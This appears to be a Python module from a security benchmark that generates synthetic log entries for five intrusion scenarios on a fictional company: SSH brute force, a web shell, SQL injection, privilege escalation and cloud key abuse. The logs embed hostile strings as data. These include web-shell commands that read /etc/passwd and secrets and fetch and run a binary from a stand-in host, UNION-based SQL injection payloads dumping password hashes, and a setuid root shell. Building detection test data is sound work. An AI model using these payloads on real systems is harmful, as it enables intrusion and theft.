"""Intrusions on Linux servers, the web shop and the cloud account.

Handed: company, random source, start. Hands on: one story each.
"""

from random import Random

from bench.company.formats import cloud, linux
from bench.company.message import Message
from bench.company.stories.base import Story
from bench.company.world import BROWSERS, Company


def brute_force(company: Company, rng: Random, at: float) -> Story:
    """Passwords are guessed over SSH until one fits."""
    address, host = company.intruders[0], "bastion-1"
    pid = rng.randrange(1000, 30000)
    sent = []
    for attempt in range(rng.randint(22, 28)):
        at += rng.uniform(0.2, 0.6)
        text = f"Failed password for deploy from {address} port {33000 + attempt * 7} ssh2"
        sent.append(linux.sshd(at, host, pid + attempt, text))
    pid += 60
    sent.append(linux.sshd(at + 1, host, pid, f"Accepted password for deploy from {address} port 34801 ssh2"))
    opened = "pam_unix(sshd:session): session opened for user deploy(uid=1006) by (uid=0)"
    sent.append(linux.syslog(at + 1.1, host, f"sshd[{pid}]", opened, facility=10))
    sent.append(linux.sudo(at + 4, host, "deploy", "/usr/bin/cat /etc/shadow", cwd="/home/deploy", tty="pts/3"))
    return Story("brute_force", "SSH password guessed", "T1110.001", (address,), tuple(sent))


def web_shell(company: Company, rng: Random, at: float) -> Story:
    """A script is uploaded as a picture and run with commands in its address."""
    address, host = company.intruders[2], rng.choice(("shop-1", "shop-2"))
    name = f"img_{rng.getrandbits(24):06x}.php"
    path = f"/media/avatars/{name}"
    agent = rng.choice(BROWSERS)
    requests = [("GET /account/profile", 200, 6120), ("POST /account/avatar", 302, 0), (f"GET {path}", 200, 12)]
    commands = (
        "id", "uname+-a", "cat+/etc/passwd", "ls+-la+/srv/shop", "cat+/srv/shop/.env.local",
        "wget+-O+/tmp/.x+http://files." + f"{rng.choice(('quay', 'dock', 'mole'))}-assets.example/x",
        "chmod+%2Bx+/tmp/.x",
        "/tmp/.x+%26",
    )  # fmt: skip
    requests += [(f"GET {path}?c={command}", 200, rng.randrange(20, 4000)) for command in commands]
    requests += [(f"POST {path}", 200, rng.randrange(200, 90_000)) for _ in range(3)]
    sent = []
    for request, status, size in requests:
        at += rng.uniform(0.5, 1.5)
        sent.append(linux.web(at, host, address, request, status, size, agent=agent))
    return Story("web_shell", "Web shell in the shop's uploads", "T1505.003", (address, name), tuple(sent))


def injection(company: Company, rng: Random, at: float) -> Story:
    """The shop's search is tried for SQL injection."""
    address, host = company.intruders[3], rng.choice(("shop-1", "shop-2"))
    payloads = (
        "rope%27", "rope%27%20OR%20%271%27=%271", "rope%27%20AND%20SLEEP(5)--%20-", "rope%27)%20ORDER%20BY%2012--%20-",
        "-1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7170,version())--%20-",
        "-1%27%20UNION%20SELECT%20table_name,NULL,NULL%20FROM%20information_schema.tables--%20-",
        "-1%27%20UNION%20SELECT%20email,password_hash,NULL%20FROM%20customer--%20-",
    )  # fmt: skip
    sent = []
    for payload in payloads * 2:
        at += rng.uniform(0.4, 1.1)
        status = rng.choice((500, 200))
        agent = "sqlmap/1.8.6#stable (https://sqlmap.org)" if rng.random() < 0.5 else BROWSERS[0]
        sent.append(
            linux.web(at, host, address, f"GET /search?q={payload}", status, rng.randrange(300, 30_000), agent=agent)
        )
    return Story("injection", "SQL injection in the shop's search", "T1190", (address,), tuple(sent))


def privilege_escalation(company: Company, rng: Random, at: float) -> Story:
    """The web server's account tries sudo and su, runs a helper of its own, and is root."""
    host, folder = rng.choice(("shop-1", "shop-2")), f"/dev/shm/.{rng.getrandbits(32):08x}"
    refused = "www-data : user NOT in sudoers ; TTY=unknown ; PWD={0} ; USER=root ; COMMAND=/bin/bash -p"
    failed = "FAILED SU (to root) www-data on none"
    sent: list[Message] = []
    for _ in range(4):
        at += rng.uniform(0.8, 2)
        sent.append(linux.syslog(at, host, "sudo", refused.format(folder), facility=10, severity=1))
        sent.append(linux.syslog(at + 0.4, host, f"su[{rng.randrange(1000, 30000)}]", failed, facility=10, severity=5))
    exploit = (
        f"www-data: The value for the SHELL variable was not found the /etc/shells file [USER=root] [CWD={folder}]"
    )
    sent.append(linux.syslog(at + 2, host, f"pkexec[{rng.randrange(1000, 30000)}]", exploit, facility=10, severity=1))
    segfault = f"{folder}/h[{rng.randrange(1000, 30000)}]: segfault at 0 ip 00007f2c1a error 4 in libc.so.6"
    sent.append(linux.syslog(at + 3, host, "kernel", segfault, facility=0, severity=6))
    chown = f"/usr/bin/chown root:root {folder}/sh"
    setuid = f"/usr/bin/chmod 4755 {folder}/sh"
    for number, command in enumerate((chown, setuid)):
        sent.append(linux.sudo(at + 5 + number, host, "root", command, cwd=folder, tty="unknown"))
    return Story("privilege_escalation", "Web account becomes root", "T1068", (folder,), tuple(sent))


def cloud_key_abuse(company: Company, rng: Random, at: float) -> Story:
    """The build role's key is used from elsewhere: to look around, to stay, to mine, to hide."""
    address = company.intruders[6]
    agent = "aws-cli/2.9.19 Python/3.11.4 Linux/6.3.0-kali1-amd64 source/x86_64.kali.2023 prompt/off"
    caller = cloud.Caller("AssumedRole", "ci-deploy", company.ci_key, address, agent, "build-1")
    name = f"svc-{rng.choice(('metrics', 'inventory', 'billing'))}-{rng.getrandbits(16):04x}"
    calls: tuple[tuple[str, dict[str, str], str], ...] = (
        ("sts:GetCallerIdentity", {}, ""), ("iam:ListUsers", {}, "AccessDenied"), ("s3:ListBuckets", {}, ""),
        ("iam:ListAttachedRolePolicies", {"roleName": "ci-deploy"}, ""), ("ec2:DescribeRegions", {}, ""),
        ("secretsmanager:ListSecrets", {}, "AccessDenied"), ("iam:CreateUser", {"userName": name}, ""),
        ("iam:AttachUserPolicy", {"userName": name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, ""),
        ("iam:CreateAccessKey", {"userName": name}, ""), ("ec2:RunInstances", {"instanceType": "p3.16xlarge"}, ""),
        ("ec2:RunInstances", {"instanceType": "g5.48xlarge"}, "Client.InstanceLimitExceeded"),
        ("cloudtrail:StopLogging", {"name": "harbour-trail"}, "AccessDenied"),
    )  # fmt: skip
    sent = []
    for action, parameters, error in calls:
        at += rng.uniform(0.7, 1.8)
        region = rng.choice(("us-east-1", "ap-southeast-2")) if action.startswith("ec2:Run") else cloud.REGION
        sent.append(cloud.call(at, rng, caller, action, parameters=parameters, error=error, region=region))
    return Story("cloud_key_abuse", "Build key used from outside", "T1078.004", (address, name), tuple(sent))
